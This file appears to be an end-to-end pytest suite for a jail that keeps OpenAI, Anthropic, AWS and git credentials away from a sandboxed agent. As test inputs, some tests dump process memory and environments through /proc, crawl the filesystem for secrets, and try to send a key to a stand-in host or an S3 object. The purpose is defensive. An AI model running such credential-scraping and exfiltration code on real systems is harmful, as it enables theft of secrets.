"""An unmodified client works with a key that is nowhere in its jail."""

from __future__ import annotations

import base64
import os
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from botocore.credentials import Credentials

from akios_jail.demo.local_server import Request, Response, json_response
from akios_jail.demo.model_server import Behaviour, ModelServer
from tests.e2e.conftest import Akios, Run, eventually
from tests.servers.amazon import Amazon
from tests.servers.git_repository import GitRepository

pytestmark = pytest.mark.root

OPENAI = {"name": "openai", "hosts": ["api.openai.com"], "env": "OPENAI_API_KEY", "from": {"env": "OPENAI_API_KEY"}}
CALL = """
        import json, openai
        client = openai.OpenAI(max_retries=0)
        answer = client.chat.completions.create(model="gpt-4o-mini", messages=[{"role": "user", "content": "hello"}])
        print(json.dumps([answer.choices[0].message.content, client.api_key]))
"""


def echo(request: Request) -> Response:
    """Answers with the head that it got."""
    return json_response({"headers": dict(request.headers), "target": request.target})


@pytest.fixture
def key(akios: Akios) -> str:
    """A new key, in the environment of the person who calls; their policy keeps it from the agent."""
    value = "sk-proj-" + os.urandom(24).hex()
    akios.environment["OPENAI_API_KEY"] = value
    akios.upstream.sites["echo.test"] = echo
    govern(akios, OPENAI)
    return value


def govern(akios: Akios, *credentials: dict[str, Any], budget: dict[str, Any] | None = None, **spec: Any) -> None:
    hosts = [{"host": host, "methods": ["GET", "POST"]} for host in ("api.openai.com", "echo.test")]
    governance = {"network_access": {"allowlist": hosts}, "credentials": [*credentials]}
    akios.policy({**governance, **({"budget": budget} if budget else {})}, **spec)


def authorized(upstream: ModelServer, host: str = "api.openai.com") -> list[str]:
    """What stood in the Authorization fields that this host received."""
    return [request.header("Authorization") for request in upstream.requests() if request.host == host]


def left_behind(akios: Akios, run: Run, key: str) -> list[str]:
    """Every place after a session in which its key stands."""
    files = [path for folder in (akios.state, akios.workspace) for path in folder.rglob("*") if path.is_file()]
    places = [str(path) for path in [*files, akios.report] if key.encode() in path.read_bytes()]
    return places + [name for name, text in (("stdout", run.stdout.decode()), ("stderr", run.stderr)) if key in text]


def test_the_openai_sdk_works_with_a_key_that_it_never_has(akios: Akios, key: str) -> None:
    run = akios.python(CALL)
    assert run.status == 0, run
    text, held = run.said
    assert text == "hello"
    assert held.startswith("sk-proj-")
    assert len(held) == len(key)
    assert held != key
    assert authorized(akios.upstream) == [f"Bearer {key}"]
    assert left_behind(akios, run, key) == []
    assert run.report["violations"] == 0


@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
def test_an_answer_that_is_counted_is_rid_of_the_key_before(akios: Akios, key: str, stream: bool) -> None:
    govern(akios, OPENAI, budget={"max_cost_per_session": "$1.00", "max_tokens_per_minute": 10000})
    akios.upstream.behaviour = Behaviour(text=f"you sent {key} to me", chunks=1)
    run = akios.python(
        f"""
        import json, openai
        client = openai.OpenAI(max_retries=0)
        answer = client.chat.completions.create(
            model="gpt-4o-mini", messages=[{{"role": "user", "content": "hello"}}], max_tokens=100, stream={stream})
        if {stream}:
            text = "".join(chunk.choices[0].delta.content or "" for chunk in answer if chunk.choices)
        else:
            text = answer.choices[0].message.content
        print(json.dumps([text, client.api_key]))
        """
    )
    assert run.status == 0, run
    text, held = run.said
    assert text == f"you sent {held} to me"
    assert run.report["calls"] == 1
    assert run.report["cost"]["output_tokens"] == akios.upstream.usages[0].output_tokens
    assert left_behind(akios, run, key) == []


def test_streams_come_as_ever(akios: Akios, key: str) -> None:
    run = akios.python(
        """
        import json, openai
        stream = openai.OpenAI(max_retries=0).chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "hello"}], stream=True)
        print(json.dumps("".join(chunk.choices[0].delta.content or "" for chunk in stream if chunk.choices)))
        """
    )
    assert run.said == "hello", run
    assert authorized(akios.upstream) == [f"Bearer {key}"]


def test_the_anthropic_sdk_takes_its_placeholder_for_a_key(akios: Akios, key: str) -> None:
    credential = {
        "name": "anthropic",
        "hosts": ["api.anthropic.com"],
        "env": "ANTHROPIC_API_KEY",
        "from": {"env": "OPENAI_API_KEY"},
    }
    rules = [{"host": "api.anthropic.com", "methods": ["POST"]}]
    akios.policy({"network_access": {"allowlist": rules}, "credentials": [credential]})
    run = akios.python(
        """
        import json, anthropic
        client = anthropic.Anthropic(max_retries=0)
        answer = client.messages.create(
            model="claude-sonnet-4-5", max_tokens=100, messages=[{"role": "user", "content": "hello"}])
        print(json.dumps([answer.content[0].text, client.api_key]))
        """
    )
    assert run.status == 0, run
    assert run.said[0] == "hello"
    assert run.said[1].startswith("sk-ant-")
    assert authorized(akios.upstream, "api.anthropic.com") == [f"Bearer {key}"]
    assert left_behind(akios, run, key) == []


def test_a_session_with_a_key_loads_no_more_than_another(akios: Akios, key: str) -> None:
    command = akios.command("--", "/bin/true")
    assert akios.run("--", "/bin/true").status == 0
    process = akios.start(command=[sys.executable, "-X", "importtime", "-m", "akios_jail", *command[1:]])
    _, stderr = process.communicate(timeout=60)
    loaded = {line.rpartition("|")[2].strip() for line in stderr.decode().splitlines() if "import time:" in line}
    assert "akios_jail.launcher.secrets" in loaded
    assert not {"akios_jail.launcher.secret_command", "re2", "ssl", "asyncio", "pydantic"} & loaded


def test_nothing_that_an_agent_can_read_holds_the_key(akios: Akios, key: str) -> None:
    govern(akios, OPENAI, filesystem={"workspace": {"path": ".", "access": "rw"}})
    run = akios.python(
        """
        import glob, json, os, openai
        answer = openai.OpenAI(max_retries=0).chat.completions.create(
            model="gpt-4o-mini", messages=[{"role": "user", "content": "hello"}])
        told = {"environment": dict(os.environ), "answer": answer.to_json()}
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/task/*/environ"):
            try:
                told[path] = open(path, "rb").read().decode("latin-1")
            except OSError as error:
                told[path] = str(error)
        memory = 0
        for folder in glob.glob("/proc/[0-9]*"):
            try:
                maps, mem = open(folder + "/maps").read(), open(folder + "/mem", "rb", 0)
            except OSError as error:
                told[folder + "/mem"] = str(error)
                continue
            with open("memory.bin", "ab") as out:
                for line in maps.splitlines():
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    try:
                        mem.seek(start)
                        memory += out.write(mem.read(end - start))
                    except (OSError, OverflowError, ValueError):
                        pass
        for top, _, names in os.walk("/"):
            if top.startswith(("/proc", "/usr", "/dev")) or "site-packages" in top:
                continue
            for name in names:
                try:
                    told[f"{top}/{name}"] = open(f"{top}/{name}", "rb").read(1 << 20).decode("latin-1")
                except OSError:
                    pass
        json.dump(told, open("told.json", "w"))
        print(json.dumps([memory, len(told)]))
        """
    )
    assert run.status == 0, run
    memory, read = run.said
    assert memory > 1 << 20
    assert read > 20
    assert authorized(akios.upstream) == [f"Bearer {key}"]
    assert left_behind(akios, run, key) == []
    for spelled in (key[8:], key.encode().hex(), key[::-1]):
        assert spelled.encode() not in (akios.workspace / "told.json").read_bytes()


def test_while_it_runs_only_the_broker_has_the_key(akios: Akios, key: str) -> None:
    akios.file("agent.sh", "#!/bin/sh\necho started\nexec sleep 60\n", 0o755)
    process = akios.start("--", "./agent.sh")
    assert process.stdout is not None
    assert process.stdout.readline() == b"started\n"
    family = [process.pid, *descendants(process.pid)]
    having = [pid for pid in family if holds(pid, key.encode())]
    names = [Path(f"/proc/{pid}/cmdline").read_bytes() for pid in having]
    process.terminate()
    process.communicate(timeout=20)
    assert len(family) >= 4
    assert len(having) == 1, names
    assert b"akios_jail.broker" in names[0]


def descendants(pid: int) -> Iterator[int]:
    for task in Path(f"/proc/{pid}/task").iterdir():
        for child in (task / "children").read_text().split():
            yield int(child)
            yield from descendants(int(child))


def holds(pid: int, needle: bytes) -> bool:
    """Whether the key stands anywhere in a process's memory."""
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            span, rights, *_ = line.split()
            if "r" not in rights or "[v" in line:
                continue
            start, end = (int(part, 16) for part in span.split("-"))
            try:
                memory.seek(start)
                if needle in memory.read(end - start):
                    return True
            except (OSError, OverflowError, ValueError):
                continue
    return False


def test_an_agent_that_sends_its_key_elsewhere_sends_nothing(akios: Akios, key: str) -> None:
    run = akios.python(
        """
        import base64, json, os, urllib.request, urllib.error
        held = os.environ["OPENAI_API_KEY"]
        tries = {
            "field": dict(url="https://echo.test/", headers={"Authorization": f"Bearer {held}"}),
            "agent": dict(url="https://echo.test/", headers={"User-Agent": held}),
            "body": dict(url="https://echo.test/", data=base64.b64encode(b"x" + held.encode())),
            "path": dict(url=f"https://echo.test/{held}"),
            "query": dict(url=f"https://api.openai.com/v1/models?k={held}"),
        }
        codes = {}
        for name, request in tries.items():
            try:
                urllib.request.urlopen(urllib.request.Request(**request))
            except urllib.error.HTTPError as error:
                codes[name] = json.loads(error.read())["error"]["code"]
        print(json.dumps(codes))
        """
    )
    assert set(run.said.values()) == {"credential_misplaced"}, run
    assert len(run.said) == 5
    assert akios.upstream.requests() == []
    assert run.report["violations"] == 5
    violations = [record for record in run.audit if record["type"] == "session.violation"]
    assert [record["where"] for record in violations] == [
        "header Authorization",
        "header User-Agent",
        "body",
        "path",
        "query",
    ]
    assert "5 violations" in run.stderr


def test_a_host_that_reflects_requests_tells_no_key(akios: Akios, key: str) -> None:
    govern(akios, {**OPENAI, "hosts": ["api.openai.com", "echo.test"]})
    run = akios.python(
        """
        import json, os, urllib.request
        fields = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
        with urllib.request.urlopen(urllib.request.Request("https://echo.test/", headers=fields)) as answer:
            print(json.dumps([json.load(answer)["headers"]["Authorization"], fields["Authorization"]]))
        """
    )
    assert run.status == 0, run
    reflected, held = run.said
    assert reflected == held
    assert authorized(akios.upstream, "echo.test") == [f"Bearer {key}"]
    assert left_behind(akios, run, key) == []


@pytest.mark.parametrize("kind", ["file", "command"])
def test_a_key_comes_from_a_file_or_a_command_too(akios: Akios, key: str, kind: str) -> None:
    file = akios.folder / "kept" / "key"
    file.parent.mkdir()
    file.write_text(key + "\n")
    file.chmod(0o600)
    source = {"file": str(file)} if kind == "file" else {"command": ["cat", str(file)]}
    akios.environment.clear()
    govern(akios, {**OPENAI, "from": source})
    run = akios.python(CALL)
    assert run.status == 0, run
    assert authorized(akios.upstream) == [f"Bearer {key}"]
    assert left_behind(akios, run, key) == []


def test_without_its_key_a_session_does_not_start(akios: Akios, key: str) -> None:
    akios.environment.clear()
    began = time.monotonic()
    run = akios.run("--", "/bin/true", env={"OPENAI_API_KEY": ""})
    assert run.status == 2
    assert "is no key" in run.stderr
    akios.environment["OTHER"] = "x"
    govern(akios, {**OPENAI, "from": {"env": "NOT_SET_HERE"}})
    run = akios.run("--", "/bin/true")
    assert run.status == 2
    assert "sudo --preserve-env=NOT_SET_HERE" in run.stderr
    assert [record for record in run.audit if record["type"] == "session.start"] == []
    assert time.monotonic() - began < 20


def test_a_key_on_the_command_line_stays_out_too(akios: Akios, key: str) -> None:
    run = akios.run("--", "/bin/echo", key)
    assert run.status == 2
    assert "is also in the agent's command line" in run.stderr
    assert key not in run.stderr
    run = akios.run("--", "/bin/true", options=["--env", "OPENAI_API_KEY"])
    assert run.status == 2
    assert "--env gives the agent OPENAI_API_KEY" in run.stderr


def test_children_of_the_agent_inherit_the_placeholder_and_no_more(akios: Akios, key: str) -> None:
    run = akios.shell("env | grep OPENAI; sh -c 'env | grep OPENAI'; cat /proc/1/environ || true")
    lines = run.stdout.decode().splitlines()
    assert len(lines) == 2, run
    assert lines[0] == lines[1]
    assert key not in run.stdout.decode()
    assert eventually(lambda: run.report)["violations"] == 0


AWS = {
    "name": "aws",
    "hosts": ["*.amazonaws.com"],
    "sigv4": {
        "access_key_id": {"env": "AWS_ACCESS_KEY_ID"},
        "secret_access_key": {"env": "AWS_SECRET_ACCESS_KEY"},
        "session_token": {"env": "AWS_SESSION_TOKEN"},
    },
}


@pytest.fixture
def amazon(akios: Akios) -> Amazon:
    """An account whose keys the person has and the agent has not."""
    keys = Credentials("ASIAREALREALREALREAL", "real/+" + os.urandom(17).hex(), "IQoJ" + os.urandom(60).hex() + "/+==")
    account = Amazon(keys)
    hosts = ("sts.eu-west-1.amazonaws.com", "s3.eu-west-1.amazonaws.com")
    akios.upstream.sites.update(dict.fromkeys(hosts, account.site))
    akios.environment.update(
        AWS_ACCESS_KEY_ID=keys.access_key, AWS_SECRET_ACCESS_KEY=keys.secret_key, AWS_SESSION_TOKEN=keys.token
    )
    rules = [{"host": "*.amazonaws.com", "methods": ["GET", "POST", "PUT"]}]
    akios.policy({"network_access": {"allowlist": rules}, "credentials": [AWS]})
    return account


def test_amazon_s_own_client_signs_with_keys_that_it_never_has(akios: Akios, amazon: Amazon) -> None:
    run = akios.python(
        """
        import json, os
        from botocore.session import Session
        from botocore.config import Config
        session = Session()
        config = Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"})
        told = session.create_client("sts", region_name="eu-west-1", config=config).get_caller_identity()["Arn"]
        s3 = session.create_client("s3", region_name="eu-west-1", config=config)
        content = b"some content " * 1000
        s3.put_object(Bucket="b", Key="a key/with (odd) +=&%characters", Body=content)
        again = s3.get_object(Bucket="b", Key="a key/with (odd) +=&%characters")
        size = again["ContentLength"]
        same = again["Body"].read() == content
        print(json.dumps([told, size, same, os.environ["AWS_ACCESS_KEY_ID"]]))
        """
    )
    assert run.status == 0, run
    told, size, same, held = run.said
    assert amazon.judged == [True] * 3
    assert (size, same) == (13000, True)
    assert told == f"arn:aws:iam::1:user/{held}", "the account's name, as far as the agent may know it"
    for key in (amazon.credentials.secret_key, amazon.credentials.token, amazon.credentials.access_key):
        assert left_behind(akios, run, key) == []


def test_what_leaves_with_a_signature_holds_no_secret(akios: Akios, amazon: Amazon) -> None:
    run = akios.python(
        """
        import json, os
        from botocore.session import Session
        from botocore.config import Config
        from botocore.exceptions import ClientError
        config = Config(retries={"total_max_attempts": 1}, s3={"addressing_style": "path"})
        s3 = Session().create_client("s3", region_name="eu-west-1", config=config)
        try:
            s3.put_object(Bucket="b", Key="k", Body=os.environ["AWS_SECRET_ACCESS_KEY"].encode())
        except ClientError as error:
            print(json.dumps(error.response["ResponseMetadata"]["HTTPStatusCode"]))
        """
    )
    assert run.said == 403, run
    assert amazon.objects == {}
    assert run.report["violations"] == 1


def test_git_gets_in_with_a_placeholder(akios: Akios, key: str) -> None:
    repository = GitRepository(akios.folder, {"file": b"content"})
    wanted = f"Basic {base64.b64encode(f'git:{key}'.encode()).decode()}"

    def guarded(request: Request) -> Response:
        if request.header("authorization") != wanted:
            return Response(401, (("WWW-Authenticate", 'Basic realm="git"'),), b"")
        return repository.site(request)

    akios.upstream.sites["git.example.com"] = guarded
    credential = {**OPENAI, "hosts": ["git.example.com"], "env": "GIT_TOKEN"}
    rules = [{"host": "git.example.com", "methods": ["GET", "POST"]}]
    akios.policy({"network_access": {"allowlist": rules}, "credentials": [credential]})
    run = akios.shell(
        'cd /tmp && git clone --quiet "https://git:$GIT_TOKEN@git.example.com/example.git" && cat example/file'
    )
    assert (run.status, run.stdout) == (0, b"content"), run
    assert left_behind(akios, run, key) == []
